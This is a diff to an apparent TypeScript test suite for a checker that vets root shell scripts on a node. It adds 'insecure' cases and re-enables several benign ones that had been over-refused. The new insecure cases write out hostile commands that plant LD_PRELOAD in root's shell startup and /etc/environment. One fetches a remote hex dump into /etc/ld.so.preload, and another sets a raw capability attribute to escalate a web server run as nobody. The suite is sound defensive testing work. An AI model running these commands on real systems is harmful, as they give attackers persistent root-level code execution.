@@ -465,6 +465,66 @@ const insecure: NodeCase[] = [
         ]),
         /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
     ),
+    // ---- Round 75 neighbours of the read-only-mode and ~/.bashrc.d fixes (the insecure twins) ----
+    // ~/.bashrc.d/* is read as root's shell startup lines (BASH_STARTUP, PROFILE_SCRIPT): a loader variable there is
+    // every interactive root shell's (ld.so(8) LD_PRELOAD).
+    devNodeCase(
+        "R75-1 /root/.bashrc.d/ops.sh export LD_PRELOAD",
+        devNodeScript(n("r75-1"), [
+            SO,
+            "mkdir -p /root/.bashrc.d",
+            "echo 'export LD_PRELOAD=/opt/x.so' > /root/.bashrc.d/ops.sh",
+        ]),
+        LOADER,
+    ),
+    // xxd(1) -r "reverse operation: convert (or patch) hexdump into binary" writes its outfile: /etc/ld.so.preload.
+    devNodeCase(
+        "R75-2 xxd -r -p of a downloaded hex dump into /etc/ld.so.preload",
+        devNodeScript(n("r75-2"), [
+            SO,
+            "curl -fsSL -o /opt/p.hex https://downloads.example.com/p.hex",
+            "xxd -r -p /opt/p.hex /etc/ld.so.preload",
+        ]),
+    ),
+    // xxd(1) "xxd [options] [infile [outfile]]": without -r the second operand is still a file it writes.
+    devNodeCase(
+        "R75-3 xxd -p INFILE OUTFILE writes its outfile (/etc/environment)",
+        devNodeScript(n("r75-3"), [
+            "curl -fsSL -o /opt/p.bin https://downloads.example.com/p.bin",
+            "xxd -p /opt/p.bin /etc/environment",
+        ]),
+        LOADER,
+    ),
+    // vim -R still writes on `:w!` (vim(1) -R: "you can still edit the buffer ... with a ! after the command").
+    devNodeCase(
+        "R75-4 vim -R -es with a substitute and +wq! on /etc/environment",
+        devNodeScript(n("r75-4"), [SO, "vim -R -es +'%s/^LANG=.*/LD_PRELOAD=\\/opt\\/x.so/' +wq! /etc/environment"]),
+        LOADER,
+    ),
+    // vim reads its options wherever they stand: a +w after the file writes.
+    devNodeCase(
+        "R75-5 vim -es FILE then +'w! /etc/ld.so.preload' +q",
+        devNodeScript(n("r75-5"), [SO, "echo /opt/x.so > /tmp/p", "vim -es /tmp/p +'w! /etc/ld.so.preload' +q"]),
+    ),
+    // `:q` with two files fails (E173 "more files to edit"): silent Ex mode then reads its commands from stdin.
+    devNodeCase(
+        "R75-6 vim -es +q of two files, commands on stdin append LD_PRELOAD",
+        devNodeScript(n("r75-6"), [
+            SO,
+            "printf '%s\\n' 'n' '$a' 'LD_PRELOAD=/opt/x.so' '.' 'wq!' | vim -es +q /etc/hosts /etc/environment",
+        ]),
+        LOADER,
+    ),
+    // capabilities(7): file capabilities are "stored in an extended attribute named security.capability": setfattr
+    // writing it is setcap (redteam49: a capable program is root whatever user runs it).
+    devNodeCase(
+        "R75-7 setfattr -n security.capability on gohttpserver, then runuser -u nobody -- gohttpserver --root /",
+        devNodeScript(n("r75-7"), [
+            "setfattr -n security.capability -v 0sAQAAAgQAAAAAAAAAAAAAAAAAAAA= /usr/local/bin/gohttpserver",
+            "runuser -u nobody -- /usr/local/bin/gohttpserver --root / --addr :8000",
+        ]),
+        /does not read|serves|setcap|capabilit/,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -564,15 +624,10 @@ const secure: NodeCase[] = [
         "S10 kernel word console= via grubby with quotes",
         devNodeScript(n("s10"), ["grubby --update-kernel=ALL --args='console=ttyS0,115200n8 audit=1'"]),
     ),
-    // MISS: SECURE over-refusal. Fedora's (AL2023's base) skel .bashrc sources ~/.bashrc.d/*; `export LANG=C.UTF-8` sets no loader variable. Refused: /root/.bashrc.d/ops.sh is 'the node's own configuration or credentials, which the pack cannot judge' (root files fail closed; BASH_STARTUP lacks ~/.bashrc.d). Fix: add /root/.bashrc.d/* to BASH_STARTUP so it is read as shell lines like /root/.bashrc.
-    miss(
-        devNodeCase(
-            "S11 /root/.bashrc.d/ops.sh export LANG",
-            devNodeScript(n("s11"), [
-                "mkdir -p /root/.bashrc.d",
-                "echo 'export LANG=C.UTF-8' > /root/.bashrc.d/ops.sh",
-            ]),
-        ),
+    // Was a MISS (fixed in round 75): SECURE over-refusal. Fedora's (AL2023's base) skel .bashrc sources ~/.bashrc.d/*; `export LANG=C.UTF-8` sets no loader variable. Refused: /root/.bashrc.d/ops.sh is 'the node's own configuration or credentials, which the pack cannot judge' (root files fail closed; BASH_STARTUP lacks ~/.bashrc.d). Fix: add /root/.bashrc.d/* to BASH_STARTUP so it is read as shell lines like /root/.bashrc.
+    devNodeCase(
+        "S11 /root/.bashrc.d/ops.sh export LANG",
+        devNodeScript(n("s11"), ["mkdir -p /root/.bashrc.d", "echo 'export LANG=C.UTF-8' > /root/.bashrc.d/ops.sh"]),
     ),
     devNodeCase(
         "S12 crontab - from stdin running a system program",
@@ -585,12 +640,10 @@ const secure: NodeCase[] = [
     devNodeCase("S14 getfacl of /etc/environment", devNodeScript(n("s14"), ["getfacl /etc/environment"])),
     // Was a MISS (fixed in round 74): SECURE over-refusal. lsattr(1) "lists the file attributes on a Linux second extended file system"; it writes nothing. Refused by rootReads.ts RootReads.unknownEditor: lsattr is in neither shell.ts CONTENT_KEEPERS/rootReads.ts DIGESTS nor UNKNOWN_EDITOR_EXEMPT. Fix: add read-only inspectors (lsattr, od, xxd without -r, hexdump, strings, namei, rpm -q/-V, inotifywait) to CONTENT_KEEPERS.
     devNodeCase("S22 lsattr of /etc/environment", devNodeScript(n("s22"), ["lsattr /etc/environment"])),
-    // MISS: SECURE over-refusal. od(1) "dump files in octal and other formats" and xxd(1) (no -r) write only stdout. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22 (xxd only without -r).
-    miss(
-        devNodeCase(
-            "S23 od -c and xxd of judged files",
-            devNodeScript(n("s23"), ["od -c /etc/environment; xxd /etc/ssh/sshd_config > /dev/null"]),
-        ),
+    // Was a MISS (fixed in round 75): SECURE over-refusal. od(1) "dump files in octal and other formats" and xxd(1) (no -r) write only stdout. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22 (xxd only without -r).
+    devNodeCase(
+        "S23 od -c and xxd of judged files",
+        devNodeScript(n("s23"), ["od -c /etc/environment; xxd /etc/ssh/sshd_config > /dev/null"]),
     ),
     // Was a MISS (fixed in round 74): SECURE over-refusal. strings(1) "print the sequences of printable characters in files"; hexdump(1) only displays. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22.
     devNodeCase(
@@ -599,25 +652,18 @@ const secure: NodeCase[] = [
     ),
     // Was a MISS (fixed in round 74): SECURE over-refusal. namei(1) "follow a pathname until a terminal point is found" (lists components). Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22.
     devNodeCase("S25 namei -l /etc/ssh/sshd_config", devNodeScript(n("s25"), ["namei -l /etc/ssh/sshd_config"])),
-    // MISS: SECURE over-refusal. rpm(8) query (-q/-qf) and verify (-V) modes read the rpm database and files and write nothing. Refused by rootReads.ts RootReads.unknownEditor. Fix: rpm with only -q*/-V* modes is a reader (install/erase/--import stay unknown).
-    miss(
-        devNodeCase(
-            "S26 rpm -qf and rpm -Vf of judged files",
-            devNodeScript(n("s26"), ["rpm -qf /etc/environment; rpm -Vf /etc/ssh/sshd_config || true"]),
-        ),
+    // Was a MISS (passing since round 74's UNKNOWN_EDITOR_EXEMPT rpm entry; unskipped in round 75): SECURE over-refusal. rpm(8) query (-q/-qf) and verify (-V) modes read the rpm database and files and write nothing. Refused by rootReads.ts RootReads.unknownEditor. Fix: rpm with only -q*/-V* modes is a reader (install/erase/--import stay unknown).
+    devNodeCase(
+        "S26 rpm -qf and rpm -Vf of judged files",
+        devNodeScript(n("s26"), ["rpm -qf /etc/environment; rpm -Vf /etc/ssh/sshd_config || true"]),
     ),
     // Was a MISS (fixed in round 74): SECURE over-refusal. GNU awk without -i inplace writes only stdout unless its program redirects (print > file, |, system()); this literal program only prints. Refused by rootReads.ts RootReads.unknownEditor. Fix: awk with a literal program free of `>`, `|`, system(, and no -i/-f, is a reader.
     devNodeCase(
         "S27 awk (no -i inplace) reading /etc/environment",
         devNodeScript(n("s27"), ["awk -F= '/^LANG/ {print $2}' /etc/environment"]),
     ),
-    // MISS: SECURE over-refusal. GNU tar -c -f FILE writes only the archive; /root/ssh-backup.tgz is no file root's programs read as configuration. Refused ('writes /root/ssh-backup.tgz with content the pack cannot read ... it decides who gets into the node or what root runs there'): every unknown-content write under /root fails closed. Fix: judge /root writes by the startup/configuration names root's programs read (dotfiles, .ssh, .config), not every file under /root.
-    miss(
-        devNodeCase(
-            "S28 tar czf backup of /etc/ssh",
-            devNodeScript(n("s28"), ["tar czf /root/ssh-backup.tgz /etc/ssh"]),
-        ),
-    ),
+    // Was a MISS (passing since round 74's UNKNOWN_EDITOR_EXEMPT tar entry, a creation writes only its -f archive; unskipped in round 75): SECURE over-refusal. GNU tar -c -f FILE writes only the archive; /root/ssh-backup.tgz is no file root's programs read as configuration. Refused ('writes /root/ssh-backup.tgz with content the pack cannot read ... it decides who gets into the node or what root runs there'): every unknown-content write under /root fails closed. Fix: judge /root writes by the startup/configuration names root's programs read (dotfiles, .ssh, .config), not every file under /root.
+    devNodeCase("S28 tar czf backup of /etc/ssh", devNodeScript(n("s28"), ["tar czf /root/ssh-backup.tgz /etc/ssh"])),
     devNodeCase(
         "S29 cp -a of sshd_config to a backup",
         devNodeScript(n("s29"), ["cp -a /etc/ssh/sshd_config /root/sshd_config.bak"]),
@@ -629,19 +675,35 @@ const secure: NodeCase[] = [
             "dnf install -y inotify-tools; (inotifywait -q -e modify /etc/environment > /dev/null &)",
         ]),
     ),
-    // MISS: SECURE over-refusal (low priority). vim -R "Read-only mode" with `-es +q` only quits. Refused by rootReads.ts RootReads.unknownEditor. Fix (optional): a vim whose +/-c commands contain no w/x/sav/! and no stdin script writes nothing.
-    miss(
-        devNodeCase(
-            "S31 vim -R (read-only view) and less of /etc/environment",
-            devNodeScript(n("s31"), ["vim -R -es +q /etc/environment"]),
-        ),
+    // Was a MISS (fixed in round 75): SECURE over-refusal (low priority). vim -R "Read-only mode" with `-es +q` only quits. Refused by rootReads.ts RootReads.unknownEditor. Fix (optional): a vim whose +/-c commands contain no w/x/sav/! and no stdin script writes nothing.
+    devNodeCase(
+        "S31 vim -R (read-only view) and less of /etc/environment",
+        devNodeScript(n("s31"), ["vim -R -es +q /etc/environment"]),
     ),
-    // MISS: SECURE over-refusal. setfattr(1) sets an extended attribute (user.ops), not the content pam_env reads. Refused by rootReads.ts RootReads.unknownEditor. Fix: setfattr (attributes only) to CONTENT_KEEPERS beside setfacl/chattr/chcon.
-    miss(
-        devNodeCase(
-            "S32 setfattr -n user.ops of /etc/environment (an attribute, not content)",
-            devNodeScript(n("s32"), ["setfattr -n user.ops -v 1 /etc/environment"]),
-        ),
+    // Was a MISS (fixed in round 75): SECURE over-refusal. setfattr(1) sets an extended attribute (user.ops), not the content pam_env reads. Refused by rootReads.ts RootReads.unknownEditor. Fix: setfattr (attributes only) to CONTENT_KEEPERS beside setfacl/chattr/chcon.
+    devNodeCase(
+        "S32 setfattr -n user.ops of /etc/environment (an attribute, not content)",
+        devNodeScript(n("s32"), ["setfattr -n user.ops -v 1 /etc/environment"]),
+    ),
+    // ---- Round 75 neighbours (secure twins) ----
+    devNodeCase(
+        "R75-S1 xxd -c 16 -g 1 and xxd -p of judged files (valued options, no outfile)",
+        devNodeScript(n("r75-s1"), ["xxd -c 16 -g 1 /etc/environment", "xxd -p /etc/ssh/sshd_config | head -n 1"]),
+    ),
+    devNodeCase(
+        "R75-S2 vim -es prints two files then qa!",
+        devNodeScript(n("r75-s2"), ["vim -R -es +'%p' +'qa!' /etc/environment /etc/ssh/sshd_config"]),
+    ),
+    devNodeCase(
+        "R75-S3 setfattr -x user.ops and getfattr -d of /etc/environment",
+        devNodeScript(n("r75-s3"), ["setfattr -x user.ops /etc/environment", "getfattr -d /etc/environment"]),
+    ),
+    devNodeCase(
+        "R75-S4 /root/.bashrc.d/alias.sh defines an alias",
+        devNodeScript(n("r75-s4"), [
+            "mkdir -p /root/.bashrc.d",
+            "echo 'alias ll=\"ls -l\"' > /root/.bashrc.d/alias.sh",
+        ]),
     ),
 ];
 
